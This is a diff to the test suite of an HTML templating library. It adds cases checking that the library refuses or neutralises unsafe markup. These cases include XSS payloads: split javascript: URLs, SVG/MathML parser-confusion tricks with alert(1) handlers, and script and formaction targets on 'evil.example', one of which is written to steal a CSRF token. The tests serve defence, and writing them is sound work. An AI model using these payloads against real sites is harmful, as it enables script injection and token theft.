@@ -287,6 +287,27 @@ const REFUSED: [string, () => unknown, TemplateErrorCode][] = [
   ['entity-encoded colon prefix', () => html`<a href="javascript&colon;${'x'}">x</a>`, 'html_unsafe_url_prefix'],
   ['tab inside a static scheme', () => html`<a href="java	script:${'x'}">x</a>`, 'html_unsafe_url_prefix'],
   ['an entity after the slot that decodes to a colon', () => html`<a href="${'javascript'}&#58;alert(1)">x</a>`, 'html_url_scheme_split'],
+  ['a scheme completed after two adjacent slots', () => html`<a href="${'javascript'}${''}:alert(1)">x</a>`, 'html_url_scheme_split'],
+  ['a scheme completed after host and suffix slots', () => html`<a href="${'javascript'}${''}:${'alert(1)//'}/">x</a>`, 'html_url_scheme_split'],
+  ['a scheme completed after a relative prefix and two slots', () => html`<a href="java${'script'}${''}:alert(1)">x</a>`, 'html_url_scheme_split'],
+  ['a scheme completed with static text between slots', () => html`<a href="${'javascr'}i${'p'}t:alert(1)">x</a>`, 'html_url_scheme_split'],
+  ['svg script href', () => html`<svg><script href="${'https://evil.example/x.js'}"></script></svg>`, 'html_slot_in_resource_url'],
+  ['svg script xlink:href', () => html`<svg><script xlink:href="${'https://evil.example/x.js'}"></script></svg>`, 'html_slot_in_resource_url'],
+  ['formaction from data (the CSRF token would follow it)', () => html`<form method="post" action="/save"><button formaction="${'https://evil.example/steal'}">Go</button></form>`, 'html_formaction_leaves_origin'],
+  ['formaction after a protocol-relative prefix', () => html`<button formaction="//${'evil.example'}/x"></button>`, 'html_formaction_leaves_origin'],
+  ['formaction after https://host/', () => html`<button formaction="https://evil.example/${'x'}"></button>`, 'html_formaction_leaves_origin'],
+  ['a slot finishing a textarea end tag', () => html`<textarea></textarea${' '}><a href="${'javascript:alert(1)'}">x</a></textarea>`, 'html_slot_in_raw_text'],
+  ['a slot finishing a title end tag', () => html`<title></tit${'le'}></title>`, 'html_slot_in_raw_text'],
+  ['a slot right after < in RCDATA', () => html`<textarea><${'/textarea>'}</textarea>`, 'html_slot_in_raw_text'],
+  ['a slot in an end tag attribute', () => html`<p></p title="${'x'}">`, 'html_slot_in_tag_name'],
+  // The tokenizer and tree builder as the browser runs them, where a simpler model is wrong.
+  ['svg/ with a space is not self-closing: the style is SVG markup', () => html`<svg/ ><style><a x="</style>" onmouseover="${'alert(1)'}"></a></style></svg>`, 'html_slot_in_event_handler'],
+  ['quotes in an end tag\'s attributes hide a >', () => html`</div x="><i title='"><a onmouseover="${'alert(1)'}" '>`, 'html_slot_in_event_handler'],
+  ['a MathML text integration point reads <style> as HTML raw text', () => html`<math><mi><style>i[title="<i title='"]{}</style><b onmouseover="${'alert(1)'}">x</b><!-- ' --></mi></math>`, 'html_slot_in_event_handler'],
+  ['a breakout tag leaves SVG, so CDATA is a bogus comment', () => html`<svg><p><![CDATA[><a x="]]>" onmouseover="${'alert(1)'}">`, 'html_slot_in_event_handler'],
+  ['an end tag inside svg that closes nothing it opened', () => html`<svg><g></div><p>${'x'}</p>`, 'html_foreign_content_unclear'],
+  ['</p> inside svg', () => html`<svg></p><p>${'x'}</p></svg>`, 'html_foreign_content_unclear'],
+  ['</foreignObject> over an open HTML element', () => html`<svg><foreignObject><div></foreignObject><style></style></svg>`, 'html_foreign_content_unclear'],
   ['ends inside a tag', () => html`<p title="x"`, 'html_template_ends_in_tag'],
   ['ends inside a quoted value', () => html`<p title="${'x'}`, 'html_template_ends_in_tag'],
   ['ends after a tag name', () => html`<div`, 'html_template_ends_in_tag'],
@@ -337,8 +358,53 @@ describe('accepted shapes', () => {
     ['a boolean attribute then a slot', () => html`<input disabled value="${'x'}">`],
     ['single quotes', () => html`<p title='${'x'}'></p>`],
     ['a template element', () => html`<template><p>${'x'}</p></template>`],
+    ['an accessible svg with an unclosed path', () => html`<svg viewBox="0 0 1 1"><title>${'Icon'}</title><path d="M0 0"></svg><p>${'x'}</p>`],
+    ['html inside foreignObject, closed in order', () => html`<svg><foreignObject><div><p>${'x'}</p></div></foreignObject></svg>`],
+    ['a same-origin formaction with data after the path', () => html`<form method="post" action="/s"><button formaction="/statuses/${'7'}/delete">x</button></form>`],
+    ['an end tag with a quoted attribute', () => html`<b></b x=">"><p>${'x'}</p>`],
   ])('%s', (_name, template) => {
     expect(SafeHtml.is(template())).toBe(true);
+  });
+
+  it('writes text that only looks like a tag once (a reconsumed character is not repeated)', () => {
+    expect(String(html`<p>a <1 b ${'c'}</p>`)).toBe('<p>a <1 b c</p>');
+    expect(String(html`<br/a="1"><svg/ ><p>${'c'}</p>`)).toBe('<br/a="1"><svg/ ><p>c</p>');
+  });
+
+  it('keeps the first of two same-named attributes, as the browser does', () => {
+    const fieldOf = (page: ReturnType<typeof html>) => fillMarkers(page, 'n', () => '<input name="csrf_token">').includes('csrf_token');
+    expect(fieldOf(html`<form method="post" action="https://evil.example/" action="/x"><p>${'a'}</p></form>`)).toBe(false);
+    expect(fieldOf(html`<form method="post" action="/x" action="https://evil.example/"><p>${'a'}</p></form>`)).toBe(true);
+    expect(() => html`<script type="${'module'}" type="application/json">${json(1)}</script>`).toThrow(expect.objectContaining({ code: 'html_slot_in_script' }));
+  });
+
+  it('gives an HTML script inside foreignObject the nonce (the browser runs it as HTML)', () => {
+    expect(fillMarkers(html`<svg><foreignObject><script src="/a.js"></script></foreignObject></svg>`, 'N0NCE', undefined)).toContain('<script src="/a.js" nonce="N0NCE">');
+    expect(fillMarkers(html`<svg><script href="/a.js"></script></svg>`, 'N0NCE', undefined)).not.toContain('N0NCE');
+  });
+
+  it('filters every URL of an SVG animation\'s values list', () => {
+    expect(String(html`<svg><a><animate attributeName="href" values="${'https://a.example/;javascript:alert(1); JAVASCRIPT:x;/ok'}"/></a></svg>`)).toContain(
+      'values="https://a.example/;about:invalid#rampart;about:invalid#rampart;/ok"',
+    );
+  });
+
+  it('refuses values nested too deep in RCDATA with a clear error, not a stack overflow', () => {
+    let deep: unknown[] = ['x'];
+    for (let index = 0; index < 10_000; index++) deep = [deep];
+    const cyclic: unknown[] = [];
+    cyclic.push(cyclic);
+    for (const value of [deep, cyclic]) expect(() => html`<title>${value}</title>`).toThrow(/nested more than 64 deep/);
+  });
+
+  it('says json() was given something that is not JSON data', () => {
+    const cyclic: Record<string, unknown> = {};
+    cyclic.self = cyclic;
+    for (const value of [{ a: 1n }, cyclic]) expect(() => json(value)).toThrow(/^rampart: json\(\): the value is not JSON data/);
+  });
+
+  it('does not hand out a template\'s own parts array', () => {
+    expect('partsOf' in SafeHtml).toBe(false);
   });
 
   it('caches the analysis per template', () => {
